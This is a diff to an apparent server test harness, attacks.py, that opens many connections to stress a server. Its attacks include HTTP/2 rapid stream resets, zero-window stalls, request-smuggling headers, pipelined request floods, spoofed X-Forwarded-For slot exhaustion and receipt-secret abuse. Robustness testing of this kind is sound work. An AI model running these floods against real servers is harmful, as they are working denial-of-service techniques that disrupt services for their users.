@@ -1,23 +1,38 @@
 """Clients that no server wants, written from the specifications alone. Nothing here is shared with the project's sources.
 
-Usage: attacks.py HOST:PORT NAME [--path /ADDRESS] [--seconds S] [--connections N] [--tls]
+Usage: attacks.py HOST:PORT NAME [--path /ADDRESS] [--seconds S] [--connections N] [--ends E] [--tls]
 
-Each of N connections does its worst; one that the server ends begins anew after a while. Prints how often what happened:
-{"connected": …, "answered": {"408": …}, "ended": …}. A blob's path is needed by those who read.
+Each of N connections does its worst; one that the server ends begins anew after a while. Writes "ready" to stderr once all
+are there. After S seconds, or at SIGTERM, but not before the server has ended E of them, exchanges are finished and
+everything else is cut off. Prints how often what happened: {"connected": …, "408": …, "ended": …}; only what was seen to
+its end counts. A blob's path is needed by those who read. Those who stay (STAYING) begin once, and keep their end open.
 """
 
 import argparse
 import asyncio
+import base64
 import collections
+import contextlib
+import hashlib
+import itertools
 import json
+import os
 import random
 import re
 import resource
+import signal
 import socket
 import ssl
-import time
+import sys
 
+from http2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
+                          WINDOW_UPDATE, field, frame, request, string)
+
+FOUR = itertools.cycle(range(1, 5))
 PAUSE = 0.2  # seconds until a connection that was ended begins anew
+HANG = 900  # seconds after which an exchange is not going to end
+EXCHANGES = {"half-closed", "rubbish", "smuggling", "oversize"}
+STAYING = {"sent-ahead", "crowd-ahead", "h2-closed-window", "h2-endless-get"}
 GET = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
 SHAPES = [
     b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
@@ -46,9 +61,9 @@ TLS.set_alpn_protocols(["h2"])
 class Attacker:
     """One connection at a time, and what came of all of them."""
 
-    def __init__(self, options, tally):
-        self.options, self.tally = options, tally
-        self.random = random.Random(7)
+    def __init__(self, options, tally, crowd, number):
+        self.options, self.tally, self.crowd = options, tally, crowd
+        self.random = random.Random(number)
 
     async def connect(self):
         host, port = self.options.server.rsplit(":", 1)
@@ -58,11 +73,14 @@ class Attacker:
         connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
         try:
             await asyncio.get_running_loop().sock_connect(connection, (host, int(port)))
+            if self.options.name not in STAYING:
+                self.crowd.settle(self)
             arguments = {"ssl": TLS, "server_hostname": host} if self.options.tls else {}
             self.reader, self.writer = await asyncio.open_connection(sock=connection, limit=4096, **arguments)
         except BaseException:
             connection.close()
             raise
+        self.reading = None
         self.tally["connected"] += 1
 
     async def send(self, data):
@@ -77,17 +95,23 @@ class Attacker:
                 return
             await asyncio.sleep(seconds)
 
-    async def read(self, seconds=30):
+    async def read(self):
         """What comes until the server ends it, and what it was called."""
         data = b""
         try:
-            async with asyncio.timeout(seconds):
-                while piece := await self.reader.read(65536):
-                    data = (data + piece)[-65536:]
+            while piece := await self.reader.read(65536):
+                data = (data + piece)[-65536:]
             self.tally["ended"] += 1
         finally:
-            for status in re.findall(rb"HTTP/1.1 (\d{3})", data):
-                self.tally[status.decode()] += 1
+            # Of what is cut off here nobody knows what would have come.
+            if not asyncio.current_task().cancelling():
+                for status in re.findall(rb"HTTP/1.1 (\d{3})", data):
+                    self.tally[status.decode()] += 1
+
+    async def stay(self):
+        """Keeps this end open as it is."""
+        self.crowd.settle(self)
+        await self.crowd.end.wait()
 
     # HTTP/1.1
 
@@ -107,7 +131,7 @@ class Attacker:
         self.tally["ended"] += 1
 
     async def silence(self):
-        await self.read(seconds=3600)
+        await self.read()
 
     async def half_closed(self):
         await self.send(self.random.choice([GET[:20], GET, b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\n"]))
@@ -128,11 +152,62 @@ class Attacker:
         finally:
             await self.read()
 
+    async def receipts(self):
+        """What whoever holds a message can try (its receipt secret is 16 zero bytes): leases of their own that hear of
+        everybody's receipts, and receipts."""
+        path = self.options.path
+        hash = base64url(hashlib.sha256(bytes(16)).digest())
+        for count in range(1 << 30):
+            owner = base64url(os.urandom(32))
+            await self.ask(f"POST {path}/leases", f"Satchel-Owner: {owner}", f"Satchel-Receipt: {hash}")
+            if count % 8 == 7:
+                name = base64url(bytes([self.random.randrange(16)] * 16))
+                await self.ask(f"PUT {path}/receipts/{name}", f"Satchel-Secret: {base64url(bytes(16))}")
+
+    async def ask(self, line, *fields):
+        """Sends a request without a body and reads the whole answer."""
+        head = [f"{line} HTTP/1.1", "Host: localhost", "Content-Length: 0", *fields]
+        await self.send("\r\n".join(head + ["", ""]).encode())
+        answer = await self.reader.readuntil(b"\r\n\r\n")
+        length = re.search(rb"content-length: (\d+)", answer.lower())
+        await self.reader.readexactly(int(length[1]) if length else 0)
+        self.tally[answer.split()[1].decode()] += 1
+
+    async def slots(self):
+        """Four clients of a proxy begin all the uploads they may, and bring no byte of any."""
+        while True:
+            await self.send(
+                b"POST /uploads HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 192.0.2.%d\r\nTus-Resumable: 1.0.0\r\n"
+                b"Upload-Length: 1000000\r\nContent-Length: 0\r\n\r\n" % next(FOUR))
+            async with asyncio.timeout(30):
+                head = await self.reader.readuntil(b"\r\n\r\n")
+                length = re.search(rb"\r\ncontent-length: (\d+)", head, re.IGNORECASE)
+                await self.reader.readexactly(int(length[1]) if length else 0)
+            self.tally[head[9:12].decode()] += 1
+            if head[9:12] != b"201":
+                await asyncio.sleep(PAUSE)
+
+    async def sent_ahead(self):
+        """Many small requests, and nothing of the answers is read."""
+        self.writer.write(b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % self.options.path.encode() * 2000)
+        await self.stay()
+
+    async def crowd_ahead(self):
+        """Requests that take much more memory than bytes, behind one whose answer is never read; nothing follows them, so
+        that the server's kernel tells it to read them all. Before them large ones, for which it makes room."""
+        path = self.options.path.encode()
+        wide = b"HEAD %s HTTP/1.1\r\nHost: localhost\r\nX: %s\r\n\r\n" % (path, b"a" * 31_000)
+        fields = b"".join(b"%c:\r\n" % (97 + n % 26) for n in range(250))
+        many = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n" + fields + b"\r\n"
+        self.writer.write(wide * 40 + b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % path + many * 400)
+        self.writer.write_eof()
+        await self.stay()
+
     # HTTP/2 (RFC 9113)
 
     async def begin(self, settings=b""):
         await self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
-        self.reading = asyncio.ensure_future(self.read(seconds=3600))
+        self.reading = asyncio.ensure_future(self.read())
 
     async def push(self, data):
         """Sends, unless the server ends it first."""
@@ -174,14 +249,16 @@ class Attacker:
 
     async def h2_resets(self):
         await self.begin()
+        asked = request(self.options.path or "/healthz")
         try:
-            for stream in range(1, 1 << 30, 2):
+            for first in range(1, 1 << 30, 400):
                 if self.reading.done():
                     break
-                opened = frame(HEADERS, END_HEADERS | END_STREAM, stream, request(self.options.path or "/healthz"))
-                await self.push(opened + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
-                if stream % 100 == 1:
-                    await asyncio.sleep(0.01)
+                # Together, so that a slow machine resets as many in half a minute.
+                await self.push(b"".join(
+                    frame(HEADERS, END_HEADERS | END_STREAM, stream, asked) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
+                    for stream in range(first, first + 400, 2)))
+                await asyncio.sleep(0.01)
         finally:
             self.reading.cancel()
 
@@ -210,9 +287,24 @@ class Attacker:
         try:
             while not self.reading.done():
                 await self.push(b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in range(1, 200, 2)))
-                await asyncio.sleep(1)
+                await asyncio.sleep(5)
         finally:
             self.reading.cancel()
+
+    async def h2_silence(self):
+        await self.silence()
+
+    async def h2_closed_window(self):
+        """A small answer, for which there never is any room."""
+        await self.begin(b"\0\4" + (0).to_bytes(4, "big"))
+        await self.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request("/healthz")))
+        await self.stay()
+
+    async def h2_endless_get(self):
+        """A blob is asked for, and the request never ends."""
+        await self.begin()
+        await self.send(frame(HEADERS, END_HEADERS, 1, request(self.options.path)))
+        await self.stay()
 
     async def h2_empty(self):
         await self.begin()
@@ -220,45 +312,38 @@ class Attacker:
         await self.flood(frame(DATA, 0, 1))
 
 
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
-END_STREAM, END_HEADERS = 1, 4
+def base64url(data):
+    return base64.urlsafe_b64encode(data).decode().rstrip("=")
 
 
-def frame(kind, flags, stream, payload=b""):
-    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+class Crowd:
+    """All attackers: who has yet to do its worst for the first time, and when they shall end."""
+
+    def __init__(self):
+        self.missing, self.end = set(), asyncio.Event()
+
+    def settle(self, attacker):
+        if attacker in self.missing:
+            self.missing.remove(attacker)
+            if not self.missing:
+                print("ready", file=sys.stderr, flush=True)
 
 
-def string(text):
-    """A string of HPACK (RFC 7541 §5.2) without Huffman coding."""
-    data = text if isinstance(text, bytes) else text.encode()
-    if len(data) < 127:
-        return bytes([len(data)]) + data
-    rest, prefix = len(data) - 127, b"\x7f"
-    while rest >= 128:
-        prefix += bytes([rest % 128 + 128])
-        rest //= 128
-    return prefix + bytes([rest]) + data
+def ends(tally):
+    """Connections that the server has ended, one way or another."""
+    return sum(count for name, count in tally.items() if name == "ended" or name.startswith("Connection"))
 
 
-def field(name, value):
-    """A field that no table keeps (RFC 7541 §6.2.2)."""
-    return b"\0" + string(name) + string(value)
-
-
-def request(path, method=b"GET"):
-    return (field(":method", method) + field(":scheme", "https") + field(":authority", "localhost")
-            + field(":path", path))
-
-
-async def attack(options, tally):
-    attacker = Attacker(options, tally)
+async def attack(attacker, options, tally, crowd):
     act = getattr(attacker, options.name.replace("-", "_"))
-    while True:
+    while not crowd.end.is_set():
         try:
             await attacker.connect()
             try:
                 await act()
             finally:
+                if attacker.reading:
+                    attacker.reading.cancel()
                 attacker.writer.transport.abort()
         except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError) as error:
             tally[type(error).__name__] += 1
@@ -272,17 +357,31 @@ async def main():
     parser.add_argument("--path", default="")
     parser.add_argument("--seconds", type=float, default=2)
     parser.add_argument("--connections", type=int, default=20)
+    parser.add_argument("--ends", type=int, default=0)
     parser.add_argument("--tls", action="store_true")
     options = parser.parse_args()
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     tally = collections.Counter()
-    tasks = [asyncio.create_task(attack(options, tally)) for _ in range(options.connections)]
-    await asyncio.wait(tasks, timeout=options.seconds)
+    crowd = Crowd()
+    attackers = [Attacker(options, tally, crowd, number) for number in range(options.connections)]
+    crowd.missing.update(attackers)
+    asked = asyncio.Event()
+    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, asked.set)
+    # Whoever started this may be a thread that takes no signals, and that is inherited.
+    signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGTERM})
+    tasks = [asyncio.create_task(attack(attacker, options, tally, crowd)) for attacker in attackers]
+    with contextlib.suppress(asyncio.TimeoutError):
+        await asyncio.wait_for(asked.wait(), options.seconds)
+    while ends(tally) < options.ends:
+        await asyncio.sleep(0.05)
+    crowd.end.set()
+    if options.name in EXCHANGES | STAYING:
+        await asyncio.wait(tasks, timeout=HANG)
     for task in tasks:
         task.cancel()
     for outcome in await asyncio.gather(*tasks, return_exceptions=True):
-        if not isinstance(outcome, asyncio.CancelledError):
+        if isinstance(outcome, Exception):
             raise outcome
     print(json.dumps(tally), flush=True)
 
